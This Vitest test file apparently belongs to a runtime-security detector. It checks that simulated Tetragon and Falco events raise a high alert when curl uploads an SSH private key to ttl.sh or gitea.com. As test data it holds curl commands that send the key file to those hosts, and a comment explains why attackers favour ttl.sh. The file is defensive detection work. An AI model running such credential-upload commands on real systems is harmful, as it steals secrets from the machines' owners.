/**
 * Forges and registries the default destination classes lacked (red-team review): ttl.sh takes anonymous pushes
 * that expire in hours (no login, no credential to steal first: an attacker's first choice for an image), and
 * gitea.com is Gitea's own public forge. A credential uploaded to either by curl raised nothing (a few KiB, far
 * under the egress threshold, to an unclassed host). Checked as exported Tetragon and Falco JSON lines through the
 * real scan path; kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const KEY = '/home/app/.ssh/id_ed25519';

async function alertsOf(name: string, args: string, to: string, form: SensorForm) {
  const s = inlineScenario(name, { 'ttl.sh': '172.67.183.2', 'gitea.com': '20.205.243.166' }, [
    { at: '1s', exec: { id: 'up', parent: 'app', binary: '/usr/bin/curl', args, uid: 1000 } },
    { after: '3ms', read: { proc: 'up', path: KEY, bytes: 411 } },
    { after: '5ms', upload: { proc: 'up', to: `${to}:443`, bytes: '2KiB', over: '300ms' } },
    { after: '10ms', exit: { proc: 'up' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

describe('default destination classes', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`a blob uploaded to ttl.sh is high (${form})`, async () => {
      const args = `-X PUT --data-binary @${KEY} "https://ttl.sh/v2/a1b2c3/blobs/uploads/u?digest=sha256:ab"`;
      expect(await alertsOf('curl-ttl-sh-blob', args, 'ttl.sh', form)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'ttl.sh' },
      ]);
    });

    it(`a file committed through gitea.com's API is high (${form})`, async () => {
      const args = `-X POST -d @${KEY} https://gitea.com/api/v1/repos/evil/x/contents/k`;
      expect(await alertsOf('curl-gitea-contents', args, 'gitea.com', form)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'gitea.com' },
      ]);
    });

    it(`a sign-in form posted to gitea.com is quiet (${form})`, async () => {
      const args = '-X POST -d user_name=bot https://gitea.com/user/login';
      expect(await alertsOf('curl-gitea-login', args, 'gitea.com', form)).toEqual([]);
    });
  }
});
